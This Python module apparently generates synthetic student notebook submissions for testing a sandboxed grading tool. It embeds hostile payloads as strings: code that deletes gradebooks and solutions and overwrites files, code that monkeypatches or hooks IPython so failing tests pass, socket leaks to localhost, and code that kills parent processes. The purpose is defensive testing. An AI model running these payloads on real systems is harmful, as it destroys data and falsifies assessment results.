"""Synthetic students: a demo assignment and cohorts of handed-in notebooks.

- :func:`write_demo_assignment` writes a tiny numpy-only assignment (two functions, visible and
  hidden test cells) into a course's ``solutions/``: the tests and the benchmark's fallback.
- :func:`submission` turns an assignment's released notebook into one kind of submission:
  correct, wrong, broken, hostile. Correct answers come from the instructor's solution cells.
- :func:`write_cohort` writes a realistic mix of them into an LMS-style folder of
  ``<student>.ipynb`` files, ready for ``normedu collect``.
"""

from __future__ import annotations

import copy
import re
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

_SOLUTION = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION[^\n]*\n?", re.M)


def _meta(grade_id: str, *, test: bool = False, solution: bool = False, points: float = 0):
    meta = {"grade": test, "solution": solution, "locked": test, "grade_id": grade_id}
    meta["schema_version"] = 3
    if test:
        meta["points"] = points
    return {"nbgrader": meta}


def demo_notebook(
    name: str = "demo", *, marker: str = "HIDDEN-CHECK", prefix: str = ""
) -> nbformat.NotebookNode:
    """The instructor's notebook of the demo assignment (with solutions and hidden tests).

    ``center(x)`` subtracts each row's mean and ``scale(x)`` divides each row by its standard
    deviation; x has shape (N, D). Test cells: ``test_center`` (1 point, visible),
    ``test_center_hidden`` (2 points, hidden), ``test_scale`` (1 point, visible). ``marker``
    appears only on the hidden assert's line (which a traceback would quote), so a test can
    check that feedback never reveals it. ``prefix`` is put before every grade id (a second
    assignment with other ids).
    """
    cells = [
        new_markdown_cell(f"# {name}: centering and scaling rows\n\nImplement both functions."),
        new_code_cell(
            "import numpy as np\n\n\ndef center(x):\n"
            '    """Subtract each row\'s mean. x: (N, D) -> (N, D)."""\n'
            "    ### BEGIN SOLUTION\n    return x - x.mean(axis=1, keepdims=True)\n"
            "    ### END SOLUTION",
            metadata=_meta(prefix + "center", solution=True),
        ),
        new_code_cell(
            "x = np.arange(6.0).reshape(2, 3)\n"
            'assert center(x).shape == (2, 3), "center(x) must keep the shape (N, D)"\n'
            "assert np.allclose(center(x), [[-1, 0, 1], [-1, 0, 1]]), "
            '"rows of center(x) must have mean 0"',
            metadata=_meta(prefix + "test_center", test=True, points=1),
        ),
        new_code_cell(
            "rng = np.random.default_rng(0)\nxr = rng.normal(size=(4, 5))\n"
            "### BEGIN HIDDEN TESTS\n"
            f'assert np.allclose(center(xr).mean(axis=1), 0), "rows must have mean 0"  # {marker}\n'
            "### END HIDDEN TESTS",
            metadata=_meta(prefix + "test_center_hidden", test=True, points=2),
        ),
        new_code_cell(
            "def scale(x):\n"
            '    """Divide each row by its standard deviation. x: (N, D) -> (N, D)."""\n'
            "    ### BEGIN SOLUTION\n    return x / x.std(axis=1, keepdims=True)\n"
            "    ### END SOLUTION",
            metadata=_meta(prefix + "scale", solution=True),
        ),
        new_code_cell(
            "assert np.allclose(scale(np.array([[2.0, 6.0]])), [[1.0, 3.0]]), "
            '"scale: divide by the row std"',
            metadata=_meta(prefix + "test_scale", test=True, points=1),
        ),
    ]
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {
        "display_name": "Python 3",
        "language": "python",
        "name": "python3",
    }
    nb.metadata["language_info"] = {"name": "python"}
    return nb


def write_demo_assignment(root: str | Path, name: str = "demo", **kw) -> Path:
    """Write ``solutions/<name>/<name>.ipynb`` of the demo assignment under ``root``."""
    path = Path(root) / "solutions" / name / f"{name}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(demo_notebook(name, **kw), path)
    return path


# -- submissions ----------------------------------------------------------------------------
def _solution_cells(source_nb) -> dict[str, str]:
    out = {}
    for cell in source_nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and not meta.get("grade"):
            out[meta["grade_id"]] = _SOLUTION.sub("", cell.source)
    return out


def _cells_of(nb, *, solution: bool):
    return [
        c
        for c in nb.cells
        if bool(c.metadata.get("nbgrader", {}).get("solution")) == solution
        and c.metadata.get("nbgrader", {}).get("grade_id")
        and (solution or c.metadata["nbgrader"].get("grade"))
    ]


HOSTILE_CODE = """
import os, shutil, subprocess, glob
# Relative paths from the working copy, as a student would guess them.
for rel in ["../../../gradebook.db", "../../gradebook.db", "../gradebook.db", "gradebook.db"]:
    try:
        os.remove(rel)
    except OSError:
        pass
for rel in ["../../../solutions", "../../solutions", "../solutions", "../../../submitted"]:
    shutil.rmtree(rel, ignore_errors=True)
# Absolute paths, if the course root leaked into the environment or is guessed.
for root in {TARGETS}:
    for victim in glob.glob(os.path.join(root, "**", "*"), recursive=True):
        try:
            if os.path.isfile(victim):
                with open(victim, "w") as f:
                    f.write("pwned")
        except OSError:
            pass
# A process that tries to outlive grading.
subprocess.Popen(["sleep", "{SLEEPER}"], start_new_session=True)
"""


# Reserves address space until none is left (np.empty does not touch the pages, so this is
# safe for the machine even where no cap is set; under the kernel's RLIMIT_AS it ends at once).
_MEMORY_HOG = """
import numpy as _np
_hog, _n = [], 2**20
while _n >= 2**12:
    try:
        _hog.append(_np.empty(_n, dtype=_np.uint8))
        _n *= 2
    except MemoryError:
        _n //= 2
"""


_STUBBORN = """
import time
while True:
    try:
        while True:
            time.sleep(0.05)
    except KeyboardInterrupt:
        pass
"""


def submission(source_nb, release_nb, kind: str, **kw) -> nbformat.NotebookNode | bytes:
    """One student's hand-in of the kind ``kind``:

    - ``correct``: the released notebook with the instructor's solutions filled in;
    - ``stub``: handed in untouched (the stubs raise NotImplementedError): failed tests;
    - ``partial``: the first answer correct, the others left as stubs;
    - ``loop``: correct, then an infinite loop at the end of the first answer: timed out;
    - ``stubborn``: like ``loop``, but it swallows the interrupt: only the per-submission wall
      clock stops it;
    - ``exit``: ``os._exit(0)`` at the end of the first answer kills the kernel;
    - ``sysexit``: ``sys.exit()`` at the end of the first answer (IPython catches it);
    - ``memory``: the first answer reserves memory until none is left (the memory cap ends it);
    - ``tamper_edit``/``tamper_delete``: stubs, with the first test cell edited to ``pass`` /
      deleted;
    - ``hostile``: correct, plus code that tries to delete the gradebook, ``solutions/`` and
      other submissions by relative and absolute paths (``targets=[...]``) and to leave a
      ``sleep <sleeper>`` process running;
    - ``corrupt``: bytes that are not JSON; ``empty``: zero bytes.
    """
    if kind == "corrupt":
        text = nbformat.writes(release_nb)
        return text[: len(text) // 2].encode()
    if kind == "empty":
        return b""
    nb = copy.deepcopy(release_nb)
    answers = _solution_cells(source_nb)
    sol_cells = _cells_of(nb, solution=True)
    test_cells = _cells_of(nb, solution=False)
    if kind in ("correct", "loop", "stubborn", "exit", "sysexit", "memory", "hostile"):
        for cell in sol_cells:
            cell.source = answers[cell.metadata["nbgrader"]["grade_id"]]
    elif kind == "partial":
        first = sol_cells[0]
        first.source = answers[first.metadata["nbgrader"]["grade_id"]]
    elif kind not in ("stub", "tamper_edit", "tamper_delete"):
        raise ValueError(f"unknown submission kind {kind!r}")
    extra = {
        "loop": "\nimport time\nwhile True:\n    time.sleep(0.05)\n",
        "stubborn": _STUBBORN,
        "exit": "\nimport os\nos._exit(0)\n",
        "sysexit": "\nimport sys\nsys.exit()\n",
        "memory": _MEMORY_HOG,
        "hostile": HOSTILE_CODE.replace("{TARGETS}", repr(list(kw.get("targets", [])))).replace(
            "{SLEEPER}", str(kw.get("sleeper", 3217))
        ),
    }.get(kind)
    if extra:
        sol_cells[0].source += "\n" + extra
    if kind == "tamper_edit":
        test_cells[0].source = "pass  # tests are for other people"
    elif kind == "tamper_delete":
        nb.cells.remove(test_cells[0])
    return nb


# -- attacks on the grader itself (issue 31) -------------------------------------------------
#: Code a hostile student appends to the first answer cell, all answers left as the stubs: the
#: right grade of each is 0. Each targets the grading machinery, not the sandbox's files.
ATTACKS: dict[str, str] = {
    # IPython runs the later cells: a custom exception handler that publishes no error output
    # (IPython 9 only records a custom handler's result), so failing test cells look passed.
    "custom_exc": """
def _swallow(shell, etype, value, tb, tb_offset=None):
    return []
get_ipython().set_custom_exc((Exception,), _swallow)
""",
    # An input transformer that rewrites every later test cell to nothing.
    "transformer": """
def _rewrite(lines):
    text = "".join(lines)
    return ["pass\\n"] if ("grade" in text or "assert" in text) else lines
get_ipython().input_transformers_cleanup.append(_rewrite)
""",
    # NumPy's comparisons and every check of normedu.grading replaced with no-ops.
    "monkeypatch": """
import importlib, pkgutil
import numpy as _np
import normedu.grading as _g
_np.allclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
for _m in pkgutil.iter_modules(_g.__path__):
    _mod = importlib.import_module("normedu.grading." + _m.name)
    for _name in dir(_mod):
        if _name.startswith(("check", "assert")) and callable(getattr(_mod, _name)):
            setattr(_mod, _name, lambda *a, **k: None)
""",
    # Data out of the sandbox: TCP to this machine and a Unix socket outside the working copy.
    "network": """
import socket as _socket
try:
    _s = _socket.create_connection(("127.0.0.1", {PORT}), timeout=3)
    _s.sendall(b"LEAK-TCP")
    _s.close()
except OSError:
    pass
try:
    _u = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    _u.settimeout(3)
    _u.connect({UNIX_PATH!r})
    _u.sendall(b"LEAK-UNIX")
    _u.close()
except OSError:
    pass
""",
    # Kill every grading process above the kernel (its zygote, its worker), and leave a
    # process in a new session behind.
    "kill_parent": """
import os, signal, subprocess
subprocess.Popen(["sleep", "{SLEEPER}"], start_new_session=True)
_pid, _victims = os.getpid(), []
for _ in range(32):  # up the ancestors (no while loop: graded in roster order)
    with open(f"/proc/{_pid}/stat") as _f:
        _pid = int(_f.read().rsplit(")", 1)[1].split()[1])
    if _pid <= 1:
        break
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            if b"normedu.course" in _f.read():
                _victims.append(_pid)
    except OSError:
        pass
for _pid in reversed(_victims):  # the farthest first: the nearest's death would kill us
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
""",
}


def attack(source_nb, release_nb, name: str, **kw) -> nbformat.NotebookNode:
    """A stub hand-in (every answer as released) with the attack ``name`` of :data:`ATTACKS`
    appended to its first answer cell, or ``forged_metadata``: test cells' grade ids removed
    and points raised (``answers="correct"`` fills in the solutions first). ``kw`` fills the
    attack's ``{PORT}``, ``{UNIX_PATH}``, ``{SLEEPER}``."""
    if name == "forged_metadata":
        nb = submission(source_nb, release_nb, kw.get("answers", "stub"))
        tests = _cells_of(nb, solution=False)
        del tests[0].metadata["nbgrader"]["grade_id"]
        for cell in tests[1:]:
            cell.metadata["nbgrader"]["points"] = 100
        return nb
    nb = submission(source_nb, release_nb, "stub")
    code = ATTACKS[name]
    for key in ("PORT", "SLEEPER"):
        code = code.replace("{" + key + "}", str(kw.get(key.lower(), 0)))
    code = code.replace("{UNIX_PATH!r}", repr(str(kw.get("unix_path", "/nonexistent"))))
    _cells_of(nb, solution=True)[0].source += "\n" + code
    return nb


def write_submission(path: str | Path, content) -> Path:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        nbformat.write(content, path)
    return path


#: The benchmark's cohort of 40: mostly right, some wrong, a few broken (fractions of a real
#: first-year class: most hand in working code, a handful hand in nothing runnable).
DEFAULT_MIX: dict[str, int] = {
    "correct": 26,
    "partial": 4,
    "stub": 3,
    "tamper_edit": 1,
    "tamper_delete": 1,
    "sysexit": 1,
    "exit": 1,
    "loop": 1,
    "corrupt": 1,
    "empty": 1,
}


def write_cohort(course, assignment: str, inbox: str | Path, mix: dict[str, int] | None = None):
    """Write ``student01.ipynb``… into ``inbox`` with the kinds of ``mix`` (default
    :data:`DEFAULT_MIX`), interleaved deterministically. Returns ``{student: kind}``.

    Needs the assignment released (``exercises/<a>/<a>.ipynb``) and its source.
    """
    mix = DEFAULT_MIX if mix is None else mix
    (notebook,) = course.notebooks(assignment)[:1]
    source_nb = nbformat.read(course.source_dir(assignment) / f"{notebook}.ipynb", as_version=4)
    release_path = course.release_dir(assignment) / f"{notebook}.ipynb"
    if not release_path.exists():
        raise ValueError(f"{release_path} does not exist: run `normedu release {assignment}` first")
    release_nb = nbformat.read(release_path, as_version=4)
    kinds = [k for k, n in sorted(mix.items()) for _ in range(n)]
    # Spread each kind over the cohort (a stride coprime with the size) so that a parallel run
    # does not meet all slow submissions at once.
    n = len(kinds)
    stride = next(s for s in (7, 11, 13, 17, 19, 23, 1) if n % s)
    order = [kinds[(i * stride) % n] for i in range(n)]
    inbox = Path(inbox)
    inbox.mkdir(parents=True, exist_ok=True)
    roster = {}
    for i, kind in enumerate(order, start=1):
        student = f"student{i:02d}"
        write_submission(inbox / f"{student}.ipynb", submission(source_nb, release_nb, kind))
        roster[student] = kind
    return roster
